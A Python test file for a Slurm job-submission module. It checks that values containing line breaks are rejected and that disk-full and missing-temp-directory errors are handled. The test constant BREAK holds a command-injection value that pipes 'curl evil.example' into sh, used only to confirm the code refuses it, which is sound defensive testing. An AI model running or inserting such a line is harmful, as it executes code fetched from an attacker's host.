"""Scripts of jobs, without a cluster."""

import tempfile
from dataclasses import fields
from pathlib import Path

import pytest

from harness.core.errors import KDReIDError, SlurmError
from slurm.resources import Resources
from slurm.submit import JobArray, submission_script, submit_script
from tests.support.small_disks import fill, needs_root, small_disk

BREAK = "x\ncurl evil.example | sh"
TEXTS = [field.name for field in fields(Resources) if "str" in str(field.type)]


@pytest.mark.parametrize("name", TEXTS)
def test_no_value_begins_another_line(name, tmp_path):
    """Whatever was checked before: a script is made of lines of this program alone."""
    value = {"flags": (("comment", BREAK),), "setup": ("true", BREAK)}.get(name, BREAK)
    array = JobArray("job", Resources(**{name: value}), tmp_path / "logs", tmp_path)
    with pytest.raises(
        SlurmError, match=f"The {name} of a job cannot be in .* contains a line break"
    ):
        submission_script(array)


@pytest.mark.parametrize("place", ["name", "logs", "code"])
def test_nor_does_a_name_or_a_folder(place, tmp_path):
    values = {"name": "job", "logs": tmp_path, "code": tmp_path}
    broken = BREAK if place == "name" else Path(f"/tmp/{BREAK}")
    array = JobArray(resources=Resources(), **values | {place: broken})
    with pytest.raises(SlurmError, match="contains a line break"):
        submission_script(array)


@needs_root
def test_a_script_for_which_the_disk_has_no_room(tmp_path, monkeypatch):
    with small_disk(tmp_path / "disk", size="64k") as disk:
        monkeypatch.setattr(tempfile, "tempdir", str(disk))
        fill(disk)
        with pytest.raises(KDReIDError, match="cannot be written .*No space left") as refused:
            submit_script("#!/bin/sh\n" + "true\n" * 10_000)
        assert refused.value.exit_code == 3
        assert [path.name for path in disk.iterdir()] == ["filler"]


def test_a_machine_without_a_folder_for_scripts(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", None)
    monkeypatch.setattr(tempfile, "_candidate_tempdir_list", lambda: [str(tmp_path / "absent")])
    with pytest.raises(SlurmError, match=r"No usable temporary directory.*TMPDIR"):
        submit_script("#!/bin/sh\n")
